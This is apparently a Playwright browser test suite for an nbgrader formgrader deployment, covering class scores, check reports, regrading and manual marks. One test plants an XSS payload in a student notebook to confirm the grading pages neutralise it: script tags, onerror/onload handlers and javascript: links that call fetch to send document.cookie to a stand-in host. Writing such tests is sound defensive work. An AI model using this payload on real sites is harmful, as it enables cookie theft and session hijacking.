"""An instructor in nbgrader's formgrader: looks at the class, reads reports, grades again, marks a written answer."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import nbformat
import pytest
from nbformat.v4 import new_output

from nnkit.grading.course.steps import nbgrader_api, run_step
from tests.browser.lab import BROWSER_FLAGS, CHROMIUM, PATIENCE, running
from tests.grading import small_course
from tests.grading.small_course import ASSIGNMENT, NOTEBOOK, cell, hand_in, solved

playwright = pytest.importorskip("playwright.sync_api", reason='the browser tests need pip install -e ".[browser]"')
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="the browser tests need a Chromium, and none was found"),
]

PICTURES = os.environ.get("NNKIT_SCREENSHOTS")
RIGHT, WRONG, BAD = "ada", "ben", "eve"
ACT = "document.title='taken'; alert('taken'); fetch('http://outside.example/'+document.cookie)"
ACTIVE = (
    f"<script>{ACT}</script>\n\n"
    f'<img src="http://outside.example/picture.png" onerror="{ACT}">\n\n'
    f'<svg onload="{ACT}"></svg>\n\n'
    f'<a href="javascript:{ACT}">read more</a>\n\n'
    "It is because of <b>three</b>."
)

# nbgrader's pages load MathJax from outside, and call it in many ways.
NO_MATHJAX = "const any = new Proxy(function () {}, {get: () => any, apply: () => any}); window.MathJax = any;"


class Opened:
    """A page of the formgrader, and what it did besides showing itself."""

    def __init__(self, browser: Any) -> None:
        self.page = browser.new_page(viewport={"width": 1280, "height": 1000})
        self.page.set_default_timeout(1000 * PATIENCE)
        self.dialogs: list[str] = []
        self.outside: set[str] = set()
        self.errors: list[str] = []
        self.page.on("dialog", self._dismiss)
        self.page.on("console", lambda one: self.errors.append(one.text) if one.type == "error" else None)
        self.page.on("pageerror", lambda problem: self.errors.append(str(problem)))
        self.page.route(lambda url: urlsplit(url).hostname not in ("127.0.0.1", None), self._answer)

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _answer(self, route: Any) -> None:
        """Whatever is asked of another host is noted, and nothing leaves this machine."""
        self.outside.add(str(urlsplit(route.request.url).hostname))
        body = NO_MATHJAX if "mathjax" in route.request.url.lower() else ""
        route.fulfill(
            status=200, body=body, content_type="text/javascript", headers={"Access-Control-Allow-Origin": "*"}
        )

    def show(self, address: str, picture: Path | None = None) -> str:
        """Go to an address, and return the text that is shown there."""
        self.page.goto(address, wait_until="networkidle")
        if picture is not None:
            self.page.screenshot(path=picture, full_page=True)
        return str(self.page.locator("body").inner_text())


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A class of three, graded."""
    folder = small_course.make_course(tmp_path_factory.mktemp("formgrader") / "course")
    api = nbgrader_api(folder)
    run_step("generate", api.generate_assignment(ASSIGNMENT))
    hand_in(folder, RIGHT, solved(folder))
    hand_in(folder, WRONG, wrong(folder))
    hand_in(folder, BAD, bad(folder))
    run_step("autograde", api.autograde(ASSIGNMENT, "*"))
    run_step("write feedback", api.generate_feedback(ASSIGNMENT))
    return folder


def wrong(course: Path) -> Any:
    notebook = solved(course)
    cell(notebook, "double").source = "def double(x):\n    return x + 1"
    return notebook


def bad(course: Path) -> Any:
    """All right, and active wherever something is shown: in text, in what is printed, in what is displayed."""
    notebook = solved(course)
    cell(notebook, "why").source = ACTIVE
    cell(notebook, "title").source = f"# Small\n\n{ACTIVE}"
    html = f"<script>{ACT}</script><p>shown by a program</p>"
    cell(
        notebook, "triple"
    ).source += (
        f"\n\nfrom IPython.display import HTML, Javascript, display\n\ndisplay(HTML({html!r}), Javascript({ACT!r}))"
    )
    cell(notebook, "triple").outputs = [
        new_output("display_data", data={"text/html": html}),
        new_output("display_data", data={"application/javascript": ACT}),
    ]
    return notebook


@pytest.fixture(scope="module")
def address(course: Path) -> Iterator[str]:
    with running([sys.executable, "-m", "jupyterlab"], course.parent, course) as url:
        yield f"{url}/formgrader"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        launched = driver.chromium.launch(executable_path=CHROMIUM, args=BROWSER_FLAGS, timeout=1000 * PATIENCE)
        yield launched
        launched.close()


@pytest.fixture
def opened(browser: Any) -> Iterator[Opened]:
    page = Opened(browser)
    yield page
    page.page.close()


@pytest.fixture(scope="module")
def pictures(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = Path(PICTURES) if PICTURES else tmp_path_factory.mktemp("pictures")
    place.mkdir(parents=True, exist_ok=True)
    return place


def page_of(course: Path, student: str) -> str:
    """Where the formgrader shows what a student has handed in, below its own address."""
    with nbgrader_api(course).gradebook as gradebook:
        return f"/submissions/{gradebook.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student).id}/"


def row(opened: Opened, student: str) -> Any:
    return opened.page.locator("#main-table tr", has=opened.page.locator(f'.student-id:text-is("{student}")'))


def class_list(opened: Opened, address: str) -> None:
    opened.show(f"{address}/manage_submissions/{ASSIGNMENT}")
    row(opened, RIGHT).locator(".score").wait_for()


def press_autograde(opened: Opened, student: str) -> None:
    row(opened, student).locator(".autograde a").click()
    opened.page.wait_for_selector(".modal-dialog:visible")
    said = opened.page.locator(".modal-dialog:visible").inner_text()
    assert "Successfully autograded" in said, said
    opened.page.locator(".modal-dialog:visible button", has_text="OK").click()
    opened.page.wait_for_selector(".modal-dialog", state="hidden")
    row(opened, student).locator(".autograde a").wait_for()


def test_the_class_is_listed_with_its_points(opened: Opened, address: str, pictures: Path) -> None:
    class_list(opened, address)
    opened.page.screenshot(path=pictures / "class.png")
    shown = {student: row(opened, student).locator(".score").inner_text() for student in (RIGHT, WRONG, BAD)}
    assert shown == {RIGHT: "3 / 6", WRONG: "1 / 6", BAD: "3 / 6"}
    assert not opened.errors


def test_a_submission_shows_the_report_of_its_check(opened: Opened, address: str, course: Path, pictures: Path) -> None:
    shown = opened.show(address + page_of(course, WRONG), pictures / "wrong.png")
    assert "double: not yet." in shown
    assert "Smallest failing case" in shown
    assert "Cases of grading; seed" in shown
    assert "double: right." in opened.show(address + page_of(course, RIGHT), pictures / "right.png")
    assert not opened.errors


def test_what_is_active_does_nothing_in_the_formgrader_and_in_feedback(
    opened: Opened, browser: Any, address: str, course: Path, pictures: Path
) -> None:
    opened.show(address + page_of(course, RIGHT))
    usual = set(opened.outside)  # nbgrader's own pages ask for MathJax
    shown = opened.show(address + page_of(course, BAD), pictures / "bad.png")
    assert opened.page.title() == NOTEBOOK
    assert "It is because of three." in shown
    page = course / "feedback" / BAD / ASSIGNMENT / f"{NOTEBOOK}.html"
    feedback = opened.show(page.as_uri(), pictures / "bad-feedback.png")
    assert opened.page.title() == f"{NOTEBOOK.title()}: feedback"
    assert "double: right." in feedback
    for link in opened.page.locator("a").all():
        assert not str(link.get_attribute("href") or "").lower().startswith("javascript")
    assert not opened.dialogs
    assert opened.outside == usual
    assert not opened.errors

    graded = course / "autograded" / BAD / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    kept = graded.read_bytes()
    graded.chmod(0o644)
    nbformat.write(bad(course), graded)
    control = Opened(browser)
    try:  # the control: the same page with what was handed in
        control.show(address + page_of(course, BAD))
        assert control.page.title() == "taken"
        assert "taken" in control.dialogs
        assert "outside.example" in control.outside
    finally:
        control.page.close()
        graded.write_bytes(kept)


def test_the_button_grades_a_changed_file_and_a_mark_that_was_typed_stays(
    opened: Opened, address: str, course: Path, pictures: Path
) -> None:
    class_list(opened, address)
    hand_in(course, WRONG, solved(course))
    press_autograde(opened, WRONG)
    opened.page.wait_for_function(
        """student => [...document.querySelectorAll('#main-table tr')].some(
            row => row.querySelector('.student-id').innerText === student
                && row.querySelector('.score').innerText === '3 / 6')""",
        arg=WRONG,
    )
    where = address + page_of(course, WRONG)
    shown = opened.show(where)
    assert "double: right." in shown
    assert "not yet" not in shown
    assert opened.page.locator("#test_double").get_attribute("placeholder") == "2"

    for place, text in (("#why", "2.5"), ("#why_extra_credit", "0.5"), ("#why-comment", "Say why it is three.")):
        field = opened.page.locator(place)
        field.click()
        with opened.page.expect_response(lambda response: response.request.method == "PUT"):
            opened.page.keyboard.insert_text(text)
            field.blur()
    for _ in range(2):
        opened.show(where, pictures / "marked.png")
        assert opened.page.locator("#why").input_value() == "2.5"
        assert opened.page.locator("#why_extra_credit").input_value() == "0.5"
        assert opened.page.locator("#why-comment").input_value() == "Say why it is three."
        class_list(opened, address)
        assert row(opened, WRONG).locator(".score").inner_text() == "6 / 6"
        press_autograde(opened, WRONG)
    assert not opened.errors
    assert not opened.dialogs


def test_how_reports_look_in_feedback(opened: Opened, course: Path, pictures: Path) -> None:
    for student in (RIGHT, WRONG):
        page = course / "feedback" / student / ASSIGNMENT / f"{NOTEBOOK}.html"
        for scheme in ("light", "dark"):
            opened.page.emulate_media(color_scheme=scheme)
            assert "double:" in opened.show(page.as_uri(), pictures / f"feedback-{student}-{scheme}.png")
    assert not opened.errors
